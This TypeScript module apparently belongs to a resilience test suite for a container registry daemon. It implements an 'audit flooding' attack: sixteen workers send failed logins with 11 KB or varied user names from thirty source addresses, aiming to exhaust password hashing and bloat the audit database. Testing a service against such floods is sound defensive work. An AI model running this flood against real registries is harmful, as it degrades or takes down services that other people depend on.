// Attack family 4: audit flooding. Failed logins as fast as 16 workers can send them, from
// thirty source addresses over keep-alive connections: `GET /v2/token` with HTTP Basic
// credentials whose user names are 11 KB long or all different, and `POST /v1/auth/login`
// with different names. A row per failure once grew mcr.db by megabytes a second.
import { Agent, request as httpsRequest } from "node:https";
import { DAEMON_HOST, errorOutcome, loopUntil, SERVERNAME, sourceAddress, Tally, type Target } from "./net.ts";

const AUDIT_BLOCK = 5;
const ADDRESSES = 20;

const basic = (user: string) => `Basic ${Buffer.from(`${user}:not-the-password`).toString("base64")}`;

function send(t: Target, agent: Agent, method: string, path: string, headers: Record<string, string | number>, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const req = httpsRequest({ host: DAEMON_HOST, servername: SERVERNAME, port: t.port, method, path, headers, agent, timeout: 10_000 }, (res) => {
      res.resume();
      res.on("end", () => resolve(String(res.statusCode)));
      res.on("error", () => resolve(String(res.statusCode)));
    });
    req.on("timeout", () => req.destroy(new Error("timeout")));
    req.on("error", (err) => resolve(errorOutcome(err)));
    req.end(body);
  });
}

/**
 * Family 4 until `deadline`: 8 workers send 11 KB names (refused unread, so they come fast),
 * 4 send varied names to /v2/token and 4 to /v1/auth/login (each of those costs the
 * registry a password hash until the per-address rate limit answers 429).
 */
export async function auditFlood(t: Target, deadline: number): Promise<Tally> {
  const tally = new Tally();
  // Connections of their own per kind: the hashed attempts wait their turn in mcr, and the
  // 11 KB names must not queue behind them on the same sockets.
  const agentsFrom = (first: number, n: number) =>
    Array.from({ length: n }, (_, a) => new Agent({ ca: t.ca, keepAlive: true, maxSockets: 4, localAddress: sourceAddress(AUDIT_BLOCK, first + a) }));
  const longNames = agentsFrom(0, 10);
  const variedNames = agentsFrom(10, ADDRESSES);
  const tag = Math.random().toString(36).slice(2, 8);
  try {
    await Promise.all([
      loopUntil(deadline, 8, 12_000, async (i) => {
        tally.add(
          `token 11KB-name ${await send(t, longNames[i % longNames.length]!, "GET", "/v2/token?service=mcr", { authorization: basic(`${i}-${"x".repeat(11_000)}`) })}`,
        );
      }),
      loopUntil(deadline, 4, 4_000, async (i) => {
        tally.add(
          `token varied-name ${await send(t, variedNames[i % ADDRESSES]!, "GET", "/v2/token?service=mcr", { authorization: basic(`user-${tag}-${i}-${"y".repeat(i % 200)}`) })}`,
        );
      }),
      loopUntil(deadline, 4, 4_000, async (i) => {
        const body = JSON.stringify({ username: `api-${tag}-${i}`, password: "not-the-password", service_name: "mcr" });
        tally.add(
          `login varied-name ${await send(t, variedNames[(i + 7) % ADDRESSES]!, "POST", "/v1/auth/login", { "content-type": "application/json", "content-length": Buffer.byteLength(body) }, body)}`,
        );
      }),
    ]);
  } finally {
    for (const a of [...longNames, ...variedNames]) a.destroy();
  }
  return tally;
}
